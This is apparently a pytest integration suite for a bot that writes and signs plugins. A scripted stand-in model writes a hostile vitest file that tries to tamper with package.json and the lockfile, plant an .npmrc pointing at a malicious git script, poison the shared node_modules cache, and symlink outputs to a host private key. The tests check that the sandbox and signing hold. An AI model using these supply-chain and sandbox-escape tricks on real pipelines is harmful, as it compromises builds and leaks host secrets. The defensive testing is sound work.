"""Issue 8: what is signed is exactly what the bot wrote, built and tested.

Each test is an attack as the issue describes it: the "model" (a scripted Messages API at
the HTTP layer) writes one allowed file, ``__tests__/setup.test.ts``, whose code runs in the
real bubblewrap sandbox during the build/test runs, then calls ``run_checks`` and
``finish``. The pipeline is the real one (npm, tsc, tsup, vitest). Every test asserts the
attack's effect on the host, the caches, the signed plugin or what the model was told.
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import json
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any, ClassVar

import pytest
from pydantic import SecretStr

from bot.manifest import MANIFEST_FILE, generate_key, load_keys, verify_manifest
from bot.runner import Outcome, Runner
from bot.settings import Settings
from tests.fakes.messages_api import ScriptedMessagesAPI, tool_use_reply
from tests.integration.conftest import exported

ROOT = Path(__file__).resolve().parents[2]
SPEC = {
    "name": "plugin-greeter",
    "description": "Greets a user by name.",
    "actions": [
        {
            "name": "SendGreeting",
            "description": "Sends a greeting to a user.",
            "parameters": [{"name": "user", "description": "who to greet"}],
        }
    ],
}
SETUP_TEST = "__tests__/setup.test.ts"
UNPRIVILEGED_UID = 60950
# The attack code's helpers: every attempt is caught, so the test itself passes.
PRELUDE = """// @ts-nocheck
import { it, expect } from 'vitest';
import * as fs from 'node:fs';
import * as path from 'node:path';
const attempt = (what, fn) => {
  try { fn(); console.log(`ATTACK ${what}: done`); }
  catch (e) { console.log(`ATTACK ${what}: ${e && e.code}`); }
};
"""


def attack(body: str, *, tests: int = 1) -> str:
    """A test file that runs ``body`` once, then ``tests`` trivial passing tests."""
    cases = "".join(f"it('trivial {i}', () => {{ expect(1).toBe(1); }});\n" for i in range(tests))
    return f"{PRELUDE}it('setup', () => {{\n{body}\n  expect(true).toBe(true);\n}});\n{cases}"


def script(*rounds: tuple[str, Any]) -> ScriptedMessagesAPI:
    api = ScriptedMessagesAPI()
    api.add(tool_use_reply(("submit_plugin_spec", SPEC)))
    for call in rounds:
        api.add(tool_use_reply(call))
    return api


def write(path: str, content: str) -> tuple[str, Any]:
    return ("write_file", {"path": path, "content": content})


CHECK: tuple[str, Any] = ("run_checks", {})
FINISH: tuple[str, Any] = ("finish", {"summary": "greets"})


@pytest.fixture
def signing(data_dir: Path) -> tuple[Path, Path]:
    """A signing key and its keys file, in a folder of their own."""
    folder = Path(os.path.join(data_dir, f"keys-{os.urandom(4).hex()}"))
    key, entry = generate_key(folder)
    keys = folder / "keys.json"
    keys.write_text(json.dumps([entry]))
    return key, keys


@pytest.fixture
def model_settings(data_dir: Path, signing: tuple[Path, Path]) -> Settings:
    return Settings(
        bot_data_dir=data_dir,
        sandbox="bwrap",
        anthropic_api_key=SecretStr("sk-test-not-real"),
        anthropic_max_retries=1,
        signing_key_path=signing[0],
    )


async def create(settings: Settings, api: ScriptedMessagesAPI, out: Path) -> Outcome:
    return await Runner(settings).create(
        "a plugin that sends a greeting to a user",
        out=out,
        generator="anthropic",
        http_client=api.client(),
    )


def scaffold_bytes(settings: Settings, tmp_path: Path, rel: str) -> bytes:
    """What the template pack renders for ``rel`` (the bot's own, authoritative copy)."""
    from bot.pack import load_pack, render_pack
    from bot.spec.schema import validate_spec

    dest = tmp_path / "reference"
    render_pack(load_pack(settings.template_dir), validate_spec(SPEC), dest)
    return (dest / rel).read_bytes()


def tool_results_text(api: ScriptedMessagesAPI) -> str:
    return json.dumps(api.bodies)


async def check_fresh_copy(settings: Settings, plugin: Path, tmp_path: Path) -> Outcome:
    copy = tmp_path / "fresh" / plugin.name
    shutil.copytree(plugin, copy)
    return await Runner(settings).check(copy)


# ------------------------------------------------------------------ 1. signed = tested


async def test_build_and_test_cannot_change_what_is_signed(
    model_settings: Settings, signing: tuple[Path, Path], tmp_path: Path
) -> None:
    body = """
  attempt('package.json', () => {
    const p = JSON.parse(fs.readFileSync('package.json', 'utf8'));
    p.scripts.postinstall = 'sh planted.sh';
    p.scripts.build = 'echo built';
    fs.writeFileSync('package.json', JSON.stringify(p, null, 2));
  });
  attempt('.npmrc', () => fs.writeFileSync('.npmrc', 'ignore-scripts=false\\n'));
  attempt('planted.sh', () => fs.writeFileSync('planted.sh', 'echo pwned\\n', { mode: 0o755 }));
  attempt('src/index.ts', () =>
    fs.appendFileSync('src/index.ts', '\\nexport const broken: number = "not a number";\\n'));
"""
    api = script(write(SETUP_TEST, attack(body)), CHECK, FINISH)
    outcome = await create(model_settings, api, tmp_path / "out")
    assert outcome.ok, outcome.ctx.failed_phase
    plugin = exported(outcome)
    assert plugin is not None
    assert not (plugin / "planted.sh").exists() and not (plugin / ".npmrc").exists()
    package = json.loads((plugin / "package.json").read_text())
    assert "postinstall" not in package["scripts"]
    assert package["scripts"]["build"] != "echo built"
    index = "src/index.ts"
    assert (plugin / index).read_bytes() == scaffold_bytes(model_settings, tmp_path, index)
    # The signed subjects are the exported files, the bot's test-results.json among them.
    verified = verify_manifest(plugin, load_keys(signing[1]))
    names = {s["name"] for s in verified.statement["subject"]}
    on_disk = {p.relative_to(plugin).as_posix() for p in plugin.rglob("*") if p.is_file()}
    assert names == on_disk - {MANIFEST_FILE}
    assert "test-results.json" in names
    checked = await check_fresh_copy(model_settings, plugin, tmp_path)
    assert checked.ok, checked.ctx.failed_phase


async def test_a_rewritten_vitest_config_does_not_hide_failing_tests(
    model_settings: Settings, tmp_path: Path
) -> None:
    # The test rewrites vitest.config.ts to run only its own trivial tests (enough of them
    # for the count guard); a real, failing test sits beside it.
    body = """
  attempt('vitest.config.ts', () => fs.writeFileSync('vitest.config.ts',
    "export default { test: { include: ['__tests__/setup.test.ts'] } };\\n"));
"""
    failing = "import { it, expect } from 'vitest';\nit('real', () => { expect(1).toBe(2); });\n"
    api = script(
        write("__tests__/real.test.ts", failing),
        write(SETUP_TEST, attack(body, tests=30)),
        CHECK,
        CHECK,
        FINISH,
    )
    outcome = await create(model_settings, api, tmp_path / "out")
    assert not outcome.ok
    assert exported(outcome) is None
    record = outcome.ctx.failed_phase
    assert record is not None and record.name == "generate"
    # The model was shown the real test failing, in the run the bot launched.
    assert "__tests__/real.test.ts" in tool_results_text(api)
    assert "TESTS FAILED" in tool_results_text(api)


# ---------------------------------------------------------- 2. npm on the bot's files


async def test_a_planted_npmrc_and_git_dependency_never_reach_npm(
    model_settings: Settings, data_dir: Path, tmp_path: Path
) -> None:
    # The evil "git" leaves a marker where it runs and in the npm cache npm was given.
    evil_git = (
        "#!/bin/sh\n"
        'touch "$PWD/GIT-RAN"\n'
        "for a in $(tr '\\000' ' ' < /proc/$PPID/cmdline); do\n"
        '  case "$a" in --cache=*) touch "${a#--cache=}/POISONED";; esac\n'
        "done\n"
        "exit 1\n"
    )
    body = f"""
  const root = process.cwd();
  const evil = {json.dumps(evil_git)};
  attempt('evilgit.sh', () => fs.writeFileSync('evilgit.sh', evil, {{ mode: 0o755 }}));
  attempt('.npmrc', () => fs.writeFileSync('.npmrc', `git=${{root}}/evilgit.sh\\n`));
  attempt('package.json', () => {{
    const p = JSON.parse(fs.readFileSync('package.json', 'utf8'));
    p.dependencies['left-pad'] = 'git+https://127.0.0.1/left-pad.git';
    fs.writeFileSync('package.json', JSON.stringify(p, null, 2));
  }});
"""
    api = script(write(SETUP_TEST, attack(body)), CHECK, FINISH)
    outcome = await create(model_settings, api, tmp_path / "out")
    assert [p for p in data_dir.rglob("GIT-RAN")] == []
    assert [p for p in data_dir.rglob("POISONED")] == []
    assert outcome.ok, outcome.ctx.failed_phase
    plugin = exported(outcome)
    assert plugin is not None
    assert "left-pad" not in json.loads((plugin / "package.json").read_text())["dependencies"]


class Recorder(http.server.BaseHTTPRequestHandler):
    """A loopback HTTP server standing in for the attacker's address."""

    seen: ClassVar[list[str]] = []
    body = b"attacker's tarball"

    def do_GET(self) -> None:  # the http.server API
        Recorder.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[str]:
    Recorder.seen = []
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()


async def test_a_lockfile_edited_by_a_test_is_never_used(
    model_settings: Settings, attacker: str, tmp_path: Path
) -> None:
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(Recorder.body).digest()).decode()
    body = f"""
  attempt('package-lock.json', () => {{
    const lock = JSON.parse(fs.readFileSync('package-lock.json', 'utf8'));
    const entry = lock.packages['node_modules/zod'];
    entry.resolved = '{attacker}/zod.tgz';
    entry.integrity = '{integrity}';
    fs.writeFileSync('package-lock.json', JSON.stringify(lock, null, 2));
  }});
"""
    api = script(write(SETUP_TEST, attack(body)), CHECK, FINISH)
    outcome = await create(model_settings, api, tmp_path / "out")
    assert Recorder.seen == []
    assert outcome.ok, outcome.ctx.failed_phase
    plugin = exported(outcome)
    assert plugin is not None
    assert attacker not in (plugin / "package-lock.json").read_text()


# ------------------------------------------------------------- 3. the shared caches


def _tree_files(data_dir: Path, rel: str) -> list[Path]:
    return sorted((data_dir / "cache" / "node_modules").glob(f"*/node_modules/{rel}"))


async def _poison_then_build_another(settings: Settings, data_dir: Path, tmp_path: Path) -> None:
    body = """
  const zod = 'node_modules/zod/index.js';
  for (const target of [zod, fs.realpathSync(zod)]) {
    attempt(`chmod ${target}`, () => fs.chmodSync(target, 0o666));
    attempt(`write ${target}`, () => fs.appendFileSync(target, '\\n/* POISONED */\\n'));
  }
"""
    api = script(write(SETUP_TEST, attack(body)), CHECK, FINISH)
    first = await create(settings, api, tmp_path / "first")
    assert first.ok, first.ctx.failed_phase
    for path in _tree_files(data_dir, "zod/index.js"):
        assert b"POISONED" not in path.read_bytes(), path
    # A later, unrelated job gets a clean tree.
    plain = Settings(bot_data_dir=data_dir, sandbox="bwrap")
    later = await Runner(plain).create("a plugin that sends a greeting", out=tmp_path / "later")
    assert later.ok, later.ctx.failed_phase
    trees = _tree_files(data_dir, "zod/index.js")
    assert trees and all(b"POISONED" not in path.read_bytes() for path in trees)


def _must_run(reason: str) -> None:
    if os.environ.get("CI") == "true":
        pytest.fail(f"{reason}; CI must run this test")
    pytest.skip(reason)


@pytest.mark.parametrize("bot_user", ["root", "unprivileged"])
async def test_a_job_cannot_poison_the_shared_node_modules(
    bot_user: str, model_settings: Settings, data_dir: Path, tmp_path: Path
) -> None:
    is_root = os.geteuid() == 0
    if bot_user == "root" and not is_root:
        _must_run("the bot-as-root case needs root")
    if bot_user == "unprivileged" and is_root:
        _run_unprivileged(f"{Path(__file__).name}::{_test_id('unprivileged')}", tmp_path)
        return
    await _poison_then_build_another(model_settings, data_dir, tmp_path)


def _test_id(param: str) -> str:
    return f"test_a_job_cannot_poison_the_shared_node_modules[{param}]"


def _run_unprivileged(test: str, tmp_path: Path) -> None:
    """The same test, run by pytest as an unprivileged uid (the deployment SECURITY.md
    recommends): bubblewrap then maps the sandbox to the bot's own uid."""
    setpriv = shutil.which("setpriv")
    if setpriv is None:
        _must_run("setpriv (util-linux) is needed to run as an unprivileged user")
    assert setpriv is not None
    home = Path(os.path.join("/tmp", f"plugin-bot-user-{os.urandom(4).hex()}"))
    home.mkdir(mode=0o755)
    os.chown(home, UNPRIVILEGED_UID, UNPRIVILEGED_UID)
    env = {
        "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
        "HOME": str(home),
        "TMPDIR": str(home),
        "PYTHONPATH": str(ROOT),
        "CI": os.environ.get("CI", ""),
    }
    try:
        done = subprocess.run(
            [
                setpriv,
                f"--reuid={UNPRIVILEGED_UID}",
                f"--regid={UNPRIVILEGED_UID}",
                "--clear-groups",
                "--",
                sys.executable,
                "-m",
                "pytest",
                "-q",
                "-p",
                "no:cacheprovider",
                "-x",
                f"tests/integration/{test}",
            ],
            cwd=ROOT,
            env=env,
            capture_output=True,
            text=True,
            timeout=1200,
            check=False,
        )
    finally:
        shutil.rmtree(home, ignore_errors=True)
    assert done.returncode == 0, done.stdout[-4000:] + done.stderr[-2000:]
    assert "1 passed" in done.stdout, done.stdout[-2000:]


# ---------------------------------------------------------- 4. the bot's own writes


async def test_the_bot_never_writes_through_a_planted_link(
    model_settings: Settings, data_dir: Path, tmp_path: Path
) -> None:
    key = data_dir / f"host-key-{os.urandom(4).hex()}.pem"
    key.write_text("-----BEGIN PRIVATE KEY-----\nhost secret\n-----END PRIVATE KEY-----\n")
    key.chmod(0o600)
    before = key.read_bytes()
    body = f"""
  attempt('test-results.json', () => {{
    try {{ fs.rmSync('test-results.json'); }} catch {{}}
    fs.symlinkSync('{key}', 'test-results.json');
  }});
"""
    api = script(write(SETUP_TEST, attack(body)), CHECK, FINISH)
    outcome = await create(model_settings, api, tmp_path / "out")
    assert key.read_bytes() == before
    assert not key.is_symlink() and oct(key.stat().st_mode & 0o777) == "0o600"
    assert outcome.ok, outcome.ctx.failed_phase
    plugin = exported(outcome)
    assert plugin is not None
    results = plugin / "test-results.json"
    assert not results.is_symlink() and json.loads(results.read_text())["success"]


async def test_a_report_pointed_at_a_host_file_is_not_read(
    model_settings: Settings, data_dir: Path, tmp_path: Path
) -> None:
    # A host file the sandbox cannot see, shaped like a vitest report with a canary in it.
    canary = f"HOST-CANARY-{os.urandom(4).hex()}"
    secret = data_dir / f"secret-{os.urandom(4).hex()}.json"
    fake = {
        "numTotalTests": 1,
        "testResults": [
            {
                "name": "/x/__tests__/host.test.ts",
                "status": "failed",
                "message": "",
                "assertionResults": [
                    {
                        "fullName": canary,
                        "title": canary,
                        "status": "failed",
                        "failureMessages": [canary],
                        "duration": 1,
                    }
                ],
            }
        ],
    }
    secret.write_text(json.dumps(fake))
    secret.chmod(0o600)
    body = f"""
  attempt('report link', () => {{
    const dir = '.plugin-bot';
    for (const name of fs.readdirSync(dir)) fs.rmSync(path.join(dir, name), {{ force: true }});
    fs.symlinkSync('{secret}', path.join(dir, 'vitest-report.json'));
  }});
"""
    api = script(write(SETUP_TEST, attack(body)), CHECK, CHECK, FINISH)
    await create(model_settings, api, tmp_path / "out")
    assert canary not in tool_results_text(api)
